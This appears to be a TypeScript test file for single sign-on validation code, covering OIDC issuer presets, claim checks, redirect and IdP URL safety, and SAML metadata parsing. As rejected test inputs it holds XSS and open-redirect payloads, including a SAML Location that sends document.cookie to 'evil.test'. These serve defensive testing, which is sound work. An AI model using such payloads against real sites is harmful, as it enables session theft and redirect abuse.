import {
  checkOidcClaims,
  emailDomain,
  isLoopbackHttpIssuer,
  isSafeIdpUrl,
  issuerFor,
  issuerProblem,
  type OidcKind,
  type OidcPresetConfig,
} from '../../api/services/sso/oidc-presets.ts';
import { parseIdpMetadata } from '../../api/services/sso/saml-metadata.ts';
import { sameOriginRedirect } from '../../api/services/sso/sso-login.service.ts';

describe('OIDC presets', () => {
  it.each<[OidcKind, OidcPresetConfig, string]>([
    [
      'azure',
      { tenant_id: '72f988bf-86f1-41af-91ab-2d7cd011db47' },
      'https://login.microsoftonline.com/72f988bf-86f1-41af-91ab-2d7cd011db47/v2.0',
    ],
    ['azure', { tenant_id: 'contoso.onmicrosoft.com' }, 'https://login.microsoftonline.com/contoso.onmicrosoft.com/v2.0'],
    ['okta', { domain: 'acme.okta.com' }, 'https://acme.okta.com'],
    ['okta', { domain: 'acme.okta.com', authorization_server: 'default' }, 'https://acme.okta.com/oauth2/default'],
    ['okta', { domain: 'acme.okta.com', authorization_server: 'aus1a2b3c4' }, 'https://acme.okta.com/oauth2/aus1a2b3c4'],
    ['google', { hosted_domain: 'acme.com' }, 'https://accounts.google.com'],
    ['oidc', { issuer: 'https://idp.acme.com/realms/main' }, 'https://idp.acme.com/realms/main'],
  ])('%s %j → issuer %s', (kind, config, issuer) => {
    expect(issuerFor(kind, config)).toBe(issuer);
  });

  it.each<[OidcKind, OidcPresetConfig]>([
    ['azure', {}],
    ['okta', {}],
    ['oidc', {}],
  ])('%s without its setting %j is a configuration error', (kind, config) => {
    expect(() => issuerFor(kind, config)).toThrow(/lacks/);
  });

  const google = { hosted_domain: 'acme.com' };
  it.each<[string, OidcKind, OidcPresetConfig, Record<string, unknown>, string | RegExp]>([
    [
      'Google account of the Workspace',
      'google',
      google,
      { email: 'Jane@Acme.com', email_verified: true, hd: 'acme.com' },
      'jane@acme.com',
    ],
    [
      'Google hd compared without case',
      'google',
      google,
      { email: 'jane@acme.com', email_verified: true, hd: 'ACME.com' },
      'jane@acme.com',
    ],
    [
      'Google consumer account (no hd)',
      'google',
      google,
      { email: 'jane@gmail.com', email_verified: true },
      /not in the Workspace domain acme\.com/,
    ],
    [
      'Google account of another Workspace',
      'google',
      google,
      { email: 'jane@acme.com', email_verified: true, hd: 'evil.com' },
      /not in the Workspace/,
    ],
    [
      'Google hd that is not a string',
      'google',
      google,
      { email: 'jane@acme.com', email_verified: true, hd: ['acme.com'] },
      /not in the Workspace/,
    ],
    [
      'Google connection without hosted_domain',
      'google',
      {},
      { email: 'jane@acme.com', email_verified: true, hd: 'acme.com' },
      /none configured/,
    ],
    ['Google unverified email', 'google', google, { email: 'jane@acme.com', email_verified: false, hd: 'acme.com' }, /did not verify/],
    ['Okta verified', 'okta', { domain: 'acme.okta.com' }, { email: 'bob@acme.com', email_verified: true }, 'bob@acme.com'],
    ['Okta without email_verified', 'okta', { domain: 'acme.okta.com' }, { email: 'bob@acme.com' }, /did not verify/],
    [
      'generic with email_verified "true" as a string',
      'oidc',
      { issuer: 'https://idp.test' },
      { email: 'bob@acme.com', email_verified: 'true' },
      /did not verify/,
    ],
    ['Azure (tenant-pinned, no email_verified claim)', 'azure', { tenant_id: 't' }, { email: 'amy@contoso.com' }, 'amy@contoso.com'],
    [
      'Azure saying email_verified false',
      'azure',
      { tenant_id: 't' },
      { email: 'amy@contoso.com', email_verified: false },
      /did not verify/,
    ],
    ['no email at all', 'oidc', { issuer: 'https://idp.test' }, { sub: '1', email_verified: true }, /no email/],
    ['email without @', 'oidc', { issuer: 'https://idp.test' }, { email: 'nobody', email_verified: true }, /no email/],
  ])('%s', (_case, kind, config, claims, expected) => {
    const result = checkOidcClaims(kind, config, claims);
    if (typeof expected === 'string') expect(result).toEqual({ ok: true, email: expected });
    else {
      expect(result.ok).toBe(false);
      expect(result.ok ? '' : result.reason).toMatch(expected);
    }
  });

  it.each([
    ['jane@acme.com', 'acme.com'],
    ['Jane@Mail.ACME.com', 'mail.acme.com'],
    ['"odd@quoted"@acme.com', 'acme.com'],
    ['nobody', ''],
  ])('emailDomain(%s) = %s', (email, domain) => {
    expect(emailDomain(email)).toBe(domain);
  });
});

describe('insecure issuers and redirects', () => {
  it.each([
    ['http://127.0.0.1:4000', true],
    ['http://localhost:4000/realms/x', true],
    ['http://[::1]:4000', true],
    ['https://127.0.0.1:4000', false],
    ['http://idp.acme.com', false],
    ['http://127.0.0.1.evil.test', false],
  ])('isLoopbackHttpIssuer(%s) = %s', (issuer, expected) => {
    expect(isLoopbackHttpIssuer(issuer)).toBe(expected);
  });

  it.each<[string, RegExp | null]>([
    ['https://acme.okta.com/oauth2/default', null],
    ['http://127.0.0.1:4000', null],
    ['http://idp.acme.com', /must be https/],
    ['https://10.0.0.7:9200/x?y=/.well-known/', /query string/],
    ['https://idp.acme.com/x#frag', /query string or fragment/],
    ['https://idp.acme.com/.well-known/openid-configuration', /not a \/\.well-known\/ document/],
    ['https://idp.acme.com/tenant/.WELL-KNOWN/x', /not a \/\.well-known\/ document/],
    ['https://idp.acme.com/%2ewell-known/x', /not a \/\.well-known\/ document/],
    ['https://user:pw@idp.acme.com', /credentials/],
  ])('issuerProblem(%s)', (issuer, expected) => {
    const problem = issuerProblem(issuer);
    if (expected) expect(problem).toMatch(expected);
    else expect(problem).toBeNull();
  });

  it.each<[string, boolean, boolean]>([
    ['https://idp.acme.com/authorize', false, true],
    ['http://idp.acme.com/authorize', true, false],
    ['http://127.0.0.1:4000/authorize', false, false],
    ['http://127.0.0.1:4000/authorize', true, true],
    ['javascript:alert(document.cookie)', true, false],
    ['data:text/html,<script>alert(1)</script>', true, false],
    ['https://u:p@idp.acme.com/authorize', false, false],
  ])('isSafeIdpUrl(%s, loopback http allowed: %s) = %s', (url, allowLoopbackHttp, expected) => {
    expect(isSafeIdpUrl(url, allowLoopbackHttp)).toBe(expected);
  });

  const publicUrl = 'https://tocsin.acme.com';
  it.each<[string | undefined, string | null]>([
    [undefined, null],
    ['/app/incidents?x=1', 'https://tocsin.acme.com/app/incidents?x=1'],
    ['https://tocsin.acme.com/app', 'https://tocsin.acme.com/app'],
    ['https://evil.test/app', null],
    ['//evil.test/app', null],
    ['/\\evil.test', null],
    ['http://tocsin.acme.com/app', null],
    ['javascript:alert(1)', null],
  ])('sameOriginRedirect(%s) = %s', (redirectTo, expected) => {
    expect(sameOriginRedirect(redirectTo, publicUrl)).toBe(expected);
  });

  it('does not honour a redirect longer than the 2,000 characters kept, once normalized', () => {
    // `https://tocsin.acme.com/` is 24 characters.
    expect(sameOriginRedirect(`/${'a'.repeat(1976)}`, publicUrl)).toBe(`${publicUrl}/${'a'.repeat(1976)}`);
    expect(sameOriginRedirect(`/${'a'.repeat(1977)}`, publicUrl)).toBeNull();
    // 400 characters asked for, 2,424 once percent-encoded.
    expect(sameOriginRedirect(`/${'é'.repeat(400)}`, publicUrl)).toBeNull();
  });
});

describe('IdP metadata', () => {
  const metadata = (descriptor: string) => `<?xml version="1.0"?>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="https://idp.acme.com/saml">
  <md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">${descriptor}</md:IDPSSODescriptor>
</md:EntityDescriptor>`;
  const signingKey =
    '<md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>\n  MIIBsigning\n  cert==\n</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>';
  const encryptionKey =
    '<md:KeyDescriptor use="encryption"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>MIIBencryption</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>';
  const redirect =
    '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://idp.acme.com/sso/redirect"/>';
  const post =
    '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://idp.acme.com/sso/post"/>';

  it.each<[string, string, Record<string, string> | RegExp]>([
    [
      'redirect binding and signing key',
      metadata(encryptionKey + signingKey + post + redirect),
      {
        idp_entity_id: 'https://idp.acme.com/saml',
        idp_sso_url: 'https://idp.acme.com/sso/redirect',
        idp_certificate: 'MIIBsigningcert==',
      },
    ],
    [
      'POST binding only',
      metadata(signingKey + post),
      { idp_entity_id: 'https://idp.acme.com/saml', idp_sso_url: 'https://idp.acme.com/sso/post', idp_certificate: 'MIIBsigningcert==' },
    ],
    ['no signing key', metadata(encryptionKey + redirect), /no signing certificate/],
    [
      'a javascript: single sign-on URL',
      metadata(
        signingKey +
          '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="javascript:fetch(\'//evil.test/\'+document.cookie)"/>',
      ),
      /Location that is not an https URL/,
    ],
    [
      'a plain http single sign-on URL',
      metadata(
        signingKey +
          '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="http://idp.acme.com/sso"/>',
      ),
      /Location that is not an https URL/,
    ],
    ['no single sign-on service', metadata(signingKey), /no SingleSignOnService/],
    [
      'an SP descriptor instead',
      '<EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" entityID="x"><SPSSODescriptor/></EntityDescriptor>',
      /no EntityDescriptor with an IDPSSODescriptor/,
    ],
  ])('%s', async (_case, xml, expected) => {
    if (expected instanceof RegExp) await expect(parseIdpMetadata(xml)).rejects.toThrow(expected);
    else await expect(parseIdpMetadata(xml)).resolves.toEqual(expected);
  });
});
